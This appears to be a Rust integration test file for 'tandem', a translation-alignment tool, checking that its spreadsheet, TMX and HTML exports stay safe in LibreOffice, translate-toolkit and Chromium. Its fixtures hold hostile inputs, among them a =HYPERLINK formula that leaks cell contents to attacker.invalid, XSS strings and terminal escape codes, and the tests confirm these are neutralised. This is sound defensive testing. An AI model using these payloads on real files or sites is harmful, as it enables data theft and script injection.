//! The translator-facing formats, read back by the programs translators use:
//! LibreOffice Calc for TSV and XLSX, translate-toolkit for TMX, headless
//! Chromium for the review page; and `tandem import` for the reviewed sheet
//! coming back. A test whose reader is not installed says so and passes;
//! `.ci/install-readers` installs them all.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use calamine::{Data, Reader, Xlsx, open_workbook};

// ---------------------------------------------------------------- helpers

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Runs `tandem` in `dir`; panics with its stderr unless it succeeds.
fn tandem(dir: &Path, args: &[&str]) -> Vec<u8> {
    let out = tandem_raw(dir, args);
    assert!(out.status.success(), "tandem {args:?} failed:\n{}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

fn tandem_raw(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tandem"))
        .args(args)
        .current_dir(dir)
        .stdin(Stdio::null())
        .output()
        .expect("run tandem")
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).expect("UTF-8 output")
}

/// A program on the PATH.
fn which(name: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path).map(|d| d.join(name)).find(|p| p.is_file())
}

fn skip(test: &str, why: &str) {
    println!("SKIP {test}: {why} (run .ci/install-readers)");
}

/// English sentences, one a line, with everything that attacks or confuses
/// a spreadsheet, an XML parser or a browser.
const HOSTILE_EN: &[&str] = &[
    "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Click for the report\")",
    "+SUM(1,2) was the minister's answer to the question on costs.",
    "-2+3 degrees were measured at the dam on Monday morning.",
    "@SUM(A1:A9) appeared in the spreadsheet sent by the ministry.",
    "\t=1+1 after a tab is a formula in some spreadsheets.",
    "\"=1+1\" in quotes is one as well, the auditors said.",
    "'=1+1 with a quote in front was written by the clerk.",
    "He said \"yes\" and left the room before the vote.",
    "A tab\tinside a sentence must not split the row.",
    "<script>alert(1)</script> & <img src=x onerror=alert(2)> were in the page.",
    "A control character \u{1} and an escape \u{1b}[31m hid in the OCR text.",
    "The Mosul Dam holds 11 billion cubic metres of water.",
    "Officials said 6,000 families have left their homes.",
];

/// Arabic sentences for them (mixed directions, bidi controls, formulas).
const HOSTILE_AR: &[&str] = &[
    "=HYPERLINK(\"http://attacker.invalid/\") رابط مريب في التقرير.",
    "+SUM(1,2) كان جواب الوزير عن سؤال التكاليف.",
    "-٢+٣ درجات سُجّلت عند السد صباح الاثنين.",
    "@SUM(A1:A9) ظهرت في جدول أرسلته الوزارة.",
    "\t=1+1 بعد علامة جدولة صيغة في بعض البرامج.",
    "\"=1+1\" بين علامتي تنصيص صيغة أيضاً، قال المدققون.",
    "'=1+1 مع علامة اقتباس كتبها الموظف.",
    "قال \"نعم\" وغادر القاعة قبل التصويت.",
    "علامة جدولة\tداخل الجملة لا تقسم الصف.",
    "<script>alert(1)</script> و <img src=x onerror=alert(2)> كانت في الصفحة.",
    "نص \u{202E}معكوس\u{202C} مع WFP و\u{2067}FBI\u{2069} في الوسط.",
    "يحجز سد الموصل ١١ مليار متر مكعب من المياه.",
    "قال مسؤولون إن ٦٬٠٠٠ أسرة غادرت منازلها.",
];

/// A fresh folder with `en.txt` and `ar.txt`: the sample article, one
/// sentence a line, followed by the hostile sentences.
fn fixture() -> tempfile::TempDir {
    let dir = tempfile::Builder::new().prefix("tandem-formats-").tempdir().unwrap();
    let lines = |name: &str, extra: &[&str]| -> String {
        let sample = std::fs::read_to_string(root().join("data").join(name)).unwrap();
        let mut out: Vec<String> =
            sample.lines().filter(|l| !l.trim().is_empty()).map(String::from).collect();
        out.extend(extra.iter().map(|s| s.to_string()));
        out.join("\n") + "\n"
    };
    std::fs::write(dir.path().join("en.txt"), lines("sample.en.sentences", HOSTILE_EN)).unwrap();
    std::fs::write(dir.path().join("ar.txt"), lines("sample.ar.sentences", HOSTILE_AR)).unwrap();
    dir
}

const ALIGN: &[&str] =
    &["align", "--line-per-sentence", "--src-lang", "en", "--tgt-lang", "ar", "en.txt", "ar.txt"];

fn align(dir: &Path, extra: &[&str]) -> Vec<u8> {
    let args: Vec<&str> = ALIGN.iter().chain(extra).copied().collect();
    tandem(dir, &args)
}

/// Records of a delimited text (header included).
fn records(data: &str, delimiter: u8) -> Vec<Vec<String>> {
    let mut rdr = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(data.as_bytes());
    rdr.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect()
}

/// Sentences of the fixture, as tandem numbers them.
fn sentences(dir: &Path, file: &str) -> Vec<String> {
    std::fs::read_to_string(dir.join(file)).unwrap().lines().map(String::from).collect()
}

/// The beads of a vecalign file.
fn vecalign(data: &str) -> Vec<(Vec<usize>, Vec<usize>)> {
    tandem::eval::parse_beads(data, Path::new("vecalign")).unwrap()
}

/// The TSV rows in bead order, with the texts tandem meant (prefix undone).
fn expect_cells_equal(written: &[Vec<String>], read: &[Vec<String>], what: &str) {
    assert_eq!(written.len(), read.len(), "{what}: row count");
    for (n, (w, r)) in written.iter().zip(read).enumerate() {
        assert_eq!(w.len(), r.len(), "{what}: columns of row {n}: {w:?} vs {r:?}");
        for (c, (a, b)) in w.iter().zip(r).enumerate() {
            if n > 0 && c == 3 {
                let (x, y): (f64, f64) = (a.parse().unwrap(), b.parse().unwrap());
                assert!((x - y).abs() < 1e-9, "{what}: confidence of row {n}: {a} vs {b}");
            } else {
                assert_eq!(a, b, "{what}: row {n}, column {c}");
            }
        }
    }
}

// ------------------------------------------------------- TSV, CSV (always)

#[test]
fn tsv_neutralises_formula_cells_and_keeps_tabs_and_quotes() {
    let dir = fixture();
    let tsv = text(align(dir.path(), &[]));
    let recs = records(&tsv, b'\t');
    assert_eq!(recs[0], tandem::output::TSV_HEADER);
    let cells: Vec<&String> = recs[1..].iter().flat_map(|r| &r[5..7]).collect();
    for c in &cells {
        assert!(
            !tandem::output::is_formula_like(c) || c.starts_with('\''),
            "a formula-like cell without the leading quote: {c:?}"
        );
    }
    // Every sentence is there once the prefix is taken off again.
    let joined: String =
        recs[1..].iter().map(|r| tandem::output::unneutralise(&r[5]).to_string() + "\n").collect();
    for s in HOSTILE_EN {
        assert!(joined.contains(s), "{s:?} lost");
    }
    assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK")));
    assert!(cells.iter().any(|c| c.starts_with("'\t=1+1")));
    assert!(cells.iter().any(|c| c.starts_with("'\"=1+1\"")));
    assert!(cells.iter().any(|c| c.starts_with("''=1+1")));
    assert!(cells.iter().any(|c| c.contains("A tab\tinside")));
    assert!(cells.iter().any(|c| c.contains("He said \"yes\"")));
    // Rows never break: one line per record.
    assert_eq!(tsv.lines().count(), recs.len());
}

#[test]
fn csv_has_the_same_cells_and_bom_works() {
    let dir = fixture();
    let tsv = text(align(dir.path(), &[]));
    let csv_bytes = align(dir.path(), &["-f", "csv", "--bom"]);
    assert!(csv_bytes.starts_with(b"\xEF\xBB\xBF"));
    let csv = text(csv_bytes[3..].to_vec());
    assert_eq!(records(&csv, b','), records(&tsv, b'\t'));
    assert!(csv.starts_with("src,tgt,type,confidence,flag,src_text,tgt_text\n"));
    let tsv_bom = align(dir.path(), &["--bom"]);
    assert!(tsv_bom.starts_with(b"\xEF\xBB\xBFsrc\ttgt\t"));
}

#[test]
fn min_confidence_filters_every_format() {
    let dir = fixture();
    let all = records(&text(align(dir.path(), &[])), b'\t');
    let min = 0.9;
    let keep: Vec<&Vec<String>> = all[1..].iter().filter(|r| r[3].parse::<f64>().unwrap() >= min).collect();
    assert!(keep.len() < all.len() - 1, "the fixture has beads below {min}");
    let tsv = records(&text(align(dir.path(), &["--min-confidence", "0.9"])), b'\t');
    assert_eq!(tsv.len() - 1, keep.len());
    let jsonl = text(align(dir.path(), &["--min-confidence", "0.9", "-f", "jsonl"]));
    assert_eq!(jsonl.lines().count(), keep.len());
    let va = text(align(dir.path(), &["--min-confidence", "0.9", "-f", "vecalign"]));
    assert_eq!(va.lines().count(), keep.len());
    let html = text(align(dir.path(), &["--min-confidence", "0.9", "-f", "html"]));
    assert_eq!(html.matches("<tr class=\"bead").count(), keep.len());
    let bad = tandem_raw(dir.path(), &[ALIGN, &["--min-confidence", "1.5"]].concat());
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("between 0 and 1"));
}

// ------------------------------------------------- XLSX (calamine, always)

fn xlsx_file(dir: &Path) -> PathBuf {
    align(dir, &["-f", "xlsx", "-o", "out.xlsx"]);
    dir.join("out.xlsx")
}

fn cell_text(c: &Data) -> String {
    match c {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        other => panic!("unexpected cell {other:?}"),
    }
}

#[test]
fn xlsx_holds_the_texts_as_strings_and_a_summary() {
    let dir = fixture();
    let path = xlsx_file(dir.path());
    let tsv = records(&text(align(dir.path(), &[])), b'\t');
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    assert_eq!(book.sheet_names(), ["alignment", "summary"]);
    let range = book.worksheet_range("alignment").unwrap();
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(rows.len(), tsv.len());
    for (r, (row, want)) in rows.iter().zip(&tsv).enumerate() {
        for (c, (cell, w)) in row.iter().zip(want).enumerate() {
            if r > 0 && c == 3 {
                let Data::Float(x) = cell else { panic!("confidence is not a number: {cell:?}") };
                assert!((x - w.parse::<f64>().unwrap()).abs() < 1e-9);
            } else if c >= 5 {
                // Strings, never formulas: the text itself, no prefix.
                assert!(matches!(cell, Data::String(_) | Data::Empty), "{cell:?}");
                assert_eq!(cell_text(cell), tandem::output::unneutralise(w), "row {r} col {c}");
            } else {
                assert_eq!(&cell_text(cell), w, "row {r} col {c}");
            }
        }
    }
    let formulas = book.worksheet_formula("alignment").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
    let summary = book.worksheet_range("summary").unwrap();
    let items: Vec<String> = summary.rows().map(|r| cell_text(&r[0])).collect();
    for want in ["beads", "beads 1-1", "flagged beads", "length ratio (target/source characters)"] {
        assert!(items.iter().any(|i| i == want), "summary lacks {want:?}: {items:?}");
    }
    let beads = summary.rows().find(|r| cell_text(&r[0]) == "beads").unwrap();
    assert_eq!(beads[1], Data::Float((tsv.len() - 1) as f64));
}

/// A part of the XLSX package, as text.
fn xlsx_part(path: &Path, part: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut s = String::new();
    std::io::Read::read_to_string(&mut zip.by_name(part).unwrap(), &mut s).unwrap();
    s
}

#[test]
fn xlsx_freezes_filters_and_sets_arabic_right_to_left() {
    let dir = fixture();
    let path = xlsx_file(dir.path());
    let sheet = xlsx_part(&path, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains(r#"state="frozen""#) && sheet.contains(r#"ySplit="1""#), "header frozen");
    assert!(sheet.contains("<autoFilter ref=\"A1:G"), "autofilter");
    assert!(
        sheet.contains(r#"<col min="6" max="7" width="60.7109375""#),
        "text columns widened: {sheet:.2000}"
    );
    let styles = xlsx_part(&path, "xl/styles.xml");
    assert!(styles.contains(r#"horizontal="right""#) && styles.contains(r#"readingOrder="2""#), "RTL style");
    assert!(styles.contains(r#"wrapText="1""#), "wrapped text");
    assert!(styles.contains("FFFFE8B0"), "flagged rows shaded");
}

// ------------------------------------------- TMX, Moses, JSONL (always)

#[test]
fn tmx_escapes_removes_control_characters_and_counts_omissions() {
    let dir = fixture();
    let out = tandem_raw(dir.path(), &[ALIGN, &["-f", "tmx", "-o", "out.tmx"]].concat());
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("2 character(s) that XML 1.0 forbids"), "{stderr}");
    let tmx = std::fs::read_to_string(dir.path().join("out.tmx")).unwrap();
    assert!(tmx.contains(r#"creationtool="tandem""#) && tmx.contains(r#"srclang="en""#));
    assert!(tmx.contains(r#"segtype="sentence""#) && tmx.contains(r#"datatype="plaintext""#));
    assert!(tmx.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;img"));
    assert!(!tmx.contains('\u{1}') && !tmx.contains('\u{1b}'));
    let tsv = records(&text(align(dir.path(), &[])), b'\t');
    let pairs = tsv[1..].iter().filter(|r| !r[0].is_empty() && !r[1].is_empty()).count();
    let omissions = tsv.len() - 1 - pairs;
    assert_eq!(tmx.matches("<tu ").count(), pairs);
    assert!(tmx.contains(&format!("{omissions} 1-0/0-1 beads")));
    assert_eq!(tmx.matches(r#"<tuv xml:lang="ar">"#).count(), pairs);
    if let Some(py) = which("python3") {
        let st = Command::new(py)
            .args(["-c", "import sys, xml.etree.ElementTree as E; E.parse(sys.argv[1])"])
            .arg(dir.path().join("out.tmx"))
            .status()
            .unwrap();
        assert!(st.success(), "Python's XML parser rejects the TMX");
    }
}

#[test]
fn moses_writes_two_parallel_files_or_tab_lines() {
    let dir = fixture();
    align(dir.path(), &["-f", "moses", "-o", "corpus"]);
    let en = std::fs::read_to_string(dir.path().join("corpus.en")).unwrap();
    let ar = std::fs::read_to_string(dir.path().join("corpus.ar")).unwrap();
    let tsv = records(&text(align(dir.path(), &[])), b'\t');
    let pairs: Vec<&Vec<String>> = tsv[1..].iter().filter(|r| !r[0].is_empty() && !r[1].is_empty()).collect();
    assert_eq!(en.lines().count(), pairs.len());
    assert_eq!(ar.lines().count(), pairs.len());
    for ((e, a), r) in en.lines().zip(ar.lines()).zip(&pairs) {
        assert_eq!(e, tandem::output::unneutralise(&r[5]).replace('\t', " "));
        assert_eq!(a, tandem::output::unneutralise(&r[6]).replace('\t', " "));
    }
    let tab = text(align(dir.path(), &["-f", "moses"]));
    for (line, (e, a)) in tab.lines().zip(en.lines().zip(ar.lines())) {
        assert_eq!(line, format!("{e}\t{a}"));
    }
}

#[test]
fn jsonl_has_one_object_per_bead() {
    let dir = fixture();
    let jsonl = text(align(dir.path(), &["-f", "jsonl"]));
    let va = vecalign(&text(align(dir.path(), &["-f", "vecalign"])));
    let (en, ar) = (sentences(dir.path(), "en.txt"), sentences(dir.path(), "ar.txt"));
    assert_eq!(jsonl.lines().count(), va.len());
    for (line, (s, t)) in jsonl.lines().zip(&va) {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let ids = |k: &str| -> Vec<usize> {
            v[k].as_array().unwrap().iter().map(|x| x.as_u64().unwrap() as usize).collect()
        };
        assert_eq!(&ids("src"), s);
        assert_eq!(&ids("tgt"), t);
        assert_eq!(v["type"], format!("{}-{}", s.len(), t.len()));
        assert!((0.0..=1.0).contains(&v["confidence"].as_f64().unwrap()));
        assert!(v["flags"].is_array());
        let join = |doc: &[String], ids: &[usize]| {
            ids.iter().map(|&i| doc[i].as_str()).collect::<Vec<_>>().join(" ")
        };
        assert_eq!(v["src_text"], join(&en, s));
        assert_eq!(v["tgt_text"], join(&ar, t));
    }
}

// ---------------------------------------------------------- HTML (always)

#[test]
fn html_escapes_text_and_forbids_the_network() {
    let dir = fixture();
    let html = text(align(dir.path(), &["-f", "html"]));
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;img src=x onerror=alert(2)&gt;"));
    assert!(!html.contains("<img"), "no markup from the text");
    assert_eq!(html.matches("<script").count(), 1, "only the page's own script");
    // Text never holds `<` (it is escaped), so each `<` starts a real tag.
    let markup = &html[..html.find("<script>").unwrap()];
    for tag in markup.split('<').skip(1).map(|t| &t[..t.find('>').unwrap()]) {
        assert!(!tag.contains(" on"), "an inline event handler: <{tag}>");
    }
    let csp = html.split("http-equiv=\"Content-Security-Policy\" content=\"").nth(1).unwrap();
    let csp = &csp[..csp.find('"').unwrap()];
    assert!(csp.starts_with("default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-"), "{csp}");
    assert!(!csp.contains("unsafe-eval") && !csp.contains("http"));
    // The hash is the one of the script in the page.
    let script = html.split("<script>").nth(1).unwrap().split("</script>").next().unwrap();
    use sha2::Digest;
    let digest = sha2::Sha256::digest(script.as_bytes());
    let b64 = base64(&digest);
    assert!(csp.contains(&format!("'sha256-{b64}'")), "the CSP hash matches the script");
    assert!(!html.contains("http://") || html.contains("http://attacker.invalid"), "no links to fetch");
    assert!(html.contains(r#"<td class="text" lang="ar" dir="rtl">"#));
    assert!(html.contains(r#"<td class="text" lang="en" dir="ltr">"#));
    assert!(html.contains("\u{202E}معكوس\u{202C}"), "bidi controls kept, inside an isolated span");
}

fn base64(bytes: &[u8]) -> String {
    const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            out.push(if i <= chunk.len() { ABC[(n >> (18 - 6 * i)) as usize & 63] as char } else { '=' });
        }
    }
    out
}

// ------------------------------------------------- LibreOffice Calc (real)

/// Converts `file` to UTF-8 CSV with LibreOffice Calc headless; the CSV
/// text, or None when LibreOffice is not installed.
fn libreoffice_csv(file: &Path, infilter: Option<&str>) -> Option<String> {
    let soffice = which("soffice").or_else(|| which("libreoffice"))?;
    let out_dir = file.parent().unwrap().join(format!("lo-{}", file.file_name().unwrap().to_string_lossy()));
    let profile = out_dir.join("profile");
    std::fs::create_dir_all(&profile).unwrap();
    let mut cmd = Command::new(soffice);
    cmd.arg(format!("-env:UserInstallation=file://{}", profile.display()))
        .args(["--headless", "--norestore"]);
    if let Some(f) = infilter {
        cmd.arg(format!("--infilter={f}"));
    }
    // Separator `,`, quote `"`, UTF-8, from line 1, quote every text cell.
    let out = cmd
        .args(["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true", "--outdir"])
        .arg(&out_dir)
        .arg(file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let csv = out_dir.join(file.with_extension("csv").file_name().unwrap());
    assert!(
        csv.is_file(),
        "LibreOffice wrote no CSV:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    Some(std::fs::read_to_string(csv).unwrap())
}

#[test]
fn libreoffice_reads_every_tsv_cell_as_tandem_wrote_it() {
    let dir = fixture();
    align(dir.path(), &["--bom", "-o", "out.tsv"]);
    let tsv = std::fs::read_to_string(dir.path().join("out.tsv")).unwrap();
    // Tab-separated, `"` quotes, UTF-8, from line 1: how a user opens it.
    let Some(csv) = libreoffice_csv(&dir.path().join("out.tsv"), Some("CSV:9,34,76,1")) else {
        return skip(
            "libreoffice_reads_every_tsv_cell_as_tandem_wrote_it",
            "LibreOffice (soffice) not found",
        );
    };
    let written = records(tsv.trim_start_matches('\u{feff}'), b'\t');
    let read = records(&csv, b',');
    expect_cells_equal(&written, &read, "LibreOffice on the TSV");
    // The formula-like cells stayed text (LibreOffice computes `=1+1` to 2).
    assert!(read.iter().any(|r| r[5].starts_with("'=HYPERLINK")));
    assert!(read.iter().any(|r| r[6].starts_with("'-٢+٣")));
}

#[test]
fn libreoffice_evaluates_unneutralised_formulas() {
    // The control experiment: without tandem's prefix, LibreOffice runs it.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("raw.tsv"), "a\tb\n=1+1\t'=1+1\n").unwrap();
    let Some(csv) = libreoffice_csv(&dir.path().join("raw.tsv"), Some("CSV:9,34,76,1")) else {
        return skip("libreoffice_evaluates_unneutralised_formulas", "LibreOffice (soffice) not found");
    };
    assert_eq!(records(&csv, b',')[1], ["2", "'=1+1"]);
}

#[test]
fn libreoffice_reads_every_xlsx_cell_as_tandem_wrote_it() {
    let dir = fixture();
    let path = xlsx_file(dir.path());
    let Some(csv) = libreoffice_csv(&path, None) else {
        return skip(
            "libreoffice_reads_every_xlsx_cell_as_tandem_wrote_it",
            "LibreOffice (soffice) not found",
        );
    };
    let mut written = records(&text(align(dir.path(), &[])), b'\t');
    for row in &mut written[1..] {
        for c in &mut row[5..7] {
            *c = tandem::output::unneutralise(c).to_string();
        }
    }
    expect_cells_equal(&written, &records(&csv, b','), "LibreOffice on the XLSX");
}

// ----------------------------------------------------- translate-toolkit

/// The Python of the readers' venv with translate-toolkit, if installed.
fn translate_toolkit() -> Option<PathBuf> {
    let py = root().join("target").join("readers-venv").join("bin").join("python");
    let ok = py.is_file()
        && Command::new(&py).args(["-c", "import translate.storage.tmx"]).status().is_ok_and(|s| s.success());
    ok.then_some(py)
}

#[test]
fn translate_toolkit_reads_every_unit_as_tandem_wrote_it() {
    let dir = fixture();
    align(dir.path(), &["-f", "tmx", "-o", "out.tmx"]);
    let Some(py) = translate_toolkit() else {
        return skip(
            "translate_toolkit_reads_every_unit_as_tandem_wrote_it",
            "translate-toolkit not installed in target/readers-venv",
        );
    };
    let script = r#"
import json, sys
from translate.storage import tmx
store = tmx.tmxfile.parsefile(sys.argv[1])
XML = "{http://www.w3.org/XML/1998/namespace}lang"
units = []
for u in store.units:
    langs = [t.get(XML) for t in u.xmlelement.iter("tuv")]
    units.append({"source": u.source, "target": u.target, "langs": langs})
print(json.dumps({"srclang": store.sourcelanguage, "units": units}))
"#;
    let out = Command::new(py).args(["-c", script]).arg(dir.path().join("out.tmx")).output().unwrap();
    assert!(out.status.success(), "translate-toolkit failed:\n{}", String::from_utf8_lossy(&out.stderr));
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(got["srclang"], "en");
    let jsonl = text(align(dir.path(), &["-f", "jsonl"]));
    let strip = |s: &str| s.replace(['\u{1}', '\u{1b}'], "");
    let want: Vec<(String, String)> = jsonl
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|v| !v["src"].as_array().unwrap().is_empty() && !v["tgt"].as_array().unwrap().is_empty())
        .map(|v| (strip(v["src_text"].as_str().unwrap()), strip(v["tgt_text"].as_str().unwrap())))
        .collect();
    let units = got["units"].as_array().unwrap();
    assert_eq!(units.len(), want.len());
    for (u, (s, t)) in units.iter().zip(&want) {
        assert_eq!(u["source"], *s);
        assert_eq!(u["target"], *t);
        assert_eq!(u["langs"], serde_json::json!(["en", "ar"]));
    }
}

// ------------------------------------------------------ headless Chromium

fn chromium() -> Option<PathBuf> {
    ["chromium", "chromium-browser", "google-chrome"].iter().find_map(|n| which(n))
}

fn chromium_cmd(bin: &Path, profile: &Path) -> Command {
    let mut cmd = Command::new(bin);
    cmd.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(["--no-first-run", "--hide-scrollbars"])
        .stdin(Stdio::null());
    cmd
}

/// The DOM of the page after its script ran, for a URL fragment.
fn dump_dom(bin: &Path, page: &Path, fragment: &str) -> String {
    let profile = page.parent().unwrap().join(format!("chromium-{}", fragment.replace(['#', '&', '='], "_")));
    let out = chromium_cmd(bin, &profile)
        .arg("--dump-dom")
        .arg(format!("file://{}{fragment}", page.display()))
        .output()
        .unwrap();
    assert!(out.status.success(), "chromium failed:\n{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// The `<tr class="bead …">` start tags of a DOM.
fn bead_rows(dom: &str) -> Vec<&str> {
    dom.match_indices("<tr class=\"bead").map(|(i, _)| &dom[i..i + dom[i..].find('>').unwrap()]).collect()
}

#[test]
fn chromium_shows_the_review_page_and_applies_the_filter() {
    let dir = fixture();
    align(dir.path(), &["-f", "html", "-o", "review.html"]);
    let Some(bin) = chromium() else {
        return skip("chromium_shows_the_review_page_and_applies_the_filter", "chromium not found");
    };
    let page = dir.path().join("review.html");
    let beads = vecalign(&text(align(dir.path(), &["-f", "vecalign"]))).len();
    let tsv = records(&text(align(dir.path(), &[])), b'\t');
    let flagged = tsv[1..].iter().filter(|r| !r[4].is_empty()).count();
    assert!(flagged > 0 && flagged < beads, "the fixture has flagged and clean beads");

    let dom = dump_dom(&bin, &page, "");
    let rows = bead_rows(&dom);
    assert_eq!(rows.len(), beads, "one row per bead");
    assert!(rows.iter().all(|r| !r.contains("hidden")), "no filter, nothing hidden");
    assert!(dom.contains(&format!("data-shown=\"{beads}\"")), "the script ran");
    let rtl = dom.matches(r#"<td class="text" lang="ar" dir="rtl">"#).count();
    assert_eq!(rtl, beads, "every Arabic cell is right-to-left");
    assert!(dom.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "hostile text stays text");
    assert!(!dom.contains("<img"), "no element from the text");

    let dom = dump_dom(&bin, &page, "#flagged");
    let rows = bead_rows(&dom);
    let shown: Vec<&&str> = rows.iter().filter(|r| !r.contains("hidden")).collect();
    assert_eq!(shown.len(), flagged, "#flagged shows the flagged beads only");
    assert!(shown.iter().all(|r| r.contains("data-flagged=\"1\"")));
    assert!(dom.contains(&format!("data-shown=\"{flagged}\"")));

    let dom = dump_dom(&bin, &page, "#min=0.9&type=1-1");
    let want = tsv[1..].iter().filter(|r| r[2] == "1-1" && r[3].parse::<f64>().unwrap() >= 0.9).count();
    assert!(dom.contains(&format!("data-shown=\"{want}\"")), "min and type filter");
    assert!(dom.contains(&format!("Showing {want} of {beads} beads")));

    // The screenshot for the README, of the sample article.
    let sample = tempfile::tempdir().unwrap();
    let review = sample.path().join("review.html");
    tandem(
        &root(),
        &["align", "data/sample.en.txt", "data/sample.ar.txt", "-f", "html", "-o", review.to_str().unwrap()],
    );
    let shot = screenshot_path();
    let out = chromium_cmd(&bin, &sample.path().join("profile"))
        .args(["--window-size=1280,1500", "--force-device-scale-factor=1"])
        .arg(format!("--screenshot={}", shot.display()))
        .arg(format!("file://{}", review.display()))
        .output()
        .unwrap();
    assert!(out.status.success() && shot.is_file(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(std::fs::read(&shot).unwrap().starts_with(b"\x89PNG"));
}

/// Where the screenshot goes: `docs/review.png` when it is missing or
/// `TANDEM_UPDATE_SCREENSHOT=1` (fonts differ between machines, so a plain
/// test run does not rewrite the committed picture), else cargo's temporary
/// folder for tests (which exists wherever the target folder is).
fn screenshot_path() -> PathBuf {
    let docs = root().join("docs").join("review.png");
    if !docs.exists() || std::env::var_os("TANDEM_UPDATE_SCREENSHOT").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(docs.parent().unwrap()).unwrap();
        return docs;
    }
    PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("review.png")
}

// ------------------------------------------------------------ tandem import

/// How a reviewer's spreadsheet program saves the sheet.
#[derive(Debug, Clone, Copy)]
enum Saved {
    /// "CSV UTF-8".
    Utf8Csv,
    /// UTF-8 TSV with a byte-order mark.
    Utf8TsvBom,
    /// Excel's "Unicode Text": UTF-16LE with a BOM, tabs, CRLF.
    Utf16Tsv,
}

const SAVED: [Saved; 3] = [Saved::Utf8Csv, Saved::Utf8TsvBom, Saved::Utf16Tsv];

fn save(rows: &[Vec<String>], how: Saved) -> Vec<u8> {
    let delimiter = if matches!(how, Saved::Utf8Csv) { b',' } else { b'\t' };
    let mut w = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for r in rows {
        w.write_record(r).unwrap();
    }
    let body = w.into_inner().unwrap();
    match how {
        Saved::Utf8Csv => body,
        Saved::Utf8TsvBom => [b"\xEF\xBB\xBF".as_slice(), &body].concat(),
        Saved::Utf16Tsv => {
            let text = String::from_utf8(body).unwrap();
            let mut out = vec![0xFF, 0xFE];
            out.extend(text.encode_utf16().flat_map(|u| u.to_le_bytes()));
            out
        }
    }
}

const IMPORT: &[&str] = &[
    "--src",
    "en.txt",
    "--tgt",
    "ar.txt",
    "--line-per-sentence",
    "--src-lang",
    "en",
    "--tgt-lang",
    "ar",
    "-f",
    "vecalign",
];

/// Imports `rows` saved as `how`; tandem's output, or its error message.
fn import(dir: &Path, rows: &[Vec<String>], how: Saved) -> Result<String, String> {
    let name = format!("reviewed-{how:?}.txt");
    std::fs::write(dir.join(&name), save(rows, how)).unwrap();
    let args: Vec<&str> = ["import", name.as_str()].iter().chain(IMPORT).copied().collect();
    let out = tandem_raw(dir, &args);
    if out.status.success() {
        Ok(text(out.stdout))
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

type Beads = Vec<(Vec<usize>, Vec<usize>)>;

/// The fixture's TSV rows and beads.
fn reviewed_fixture() -> (tempfile::TempDir, Vec<Vec<String>>, Beads) {
    let dir = fixture();
    let rows = records(&text(align(dir.path(), &[])), b'\t');
    let beads = vecalign(&text(align(dir.path(), &["-f", "vecalign"])));
    assert_eq!(rows.len(), beads.len() + 1);
    (dir, rows, beads)
}

#[test]
fn import_of_an_unchanged_sheet_gives_the_alignment_back_in_every_encoding() {
    let (dir, rows, beads) = reviewed_fixture();
    for how in SAVED {
        let got = import(dir.path(), &rows, how).unwrap_or_else(|e| panic!("{how:?}: {e}"));
        assert_eq!(vecalign(&got), beads, "{how:?}");
    }
    // Saved from the XLSX: the texts have no formula prefix; still the same.
    let mut plain = rows.clone();
    for r in &mut plain[1..] {
        for c in &mut r[5..7] {
            *c = tandem::output::unneutralise(c).to_string();
        }
    }
    assert_eq!(vecalign(&import(dir.path(), &plain, Saved::Utf8Csv).unwrap()), beads);
    // Only the two text columns are needed.
    let texts: Vec<Vec<String>> = rows.iter().map(|r| r[5..7].to_vec()).collect();
    let got = vecalign(&import(dir.path(), &texts, Saved::Utf16Tsv).unwrap());
    let nonempty = |b: &&(Vec<usize>, Vec<usize>)| !b.0.is_empty() || !b.1.is_empty();
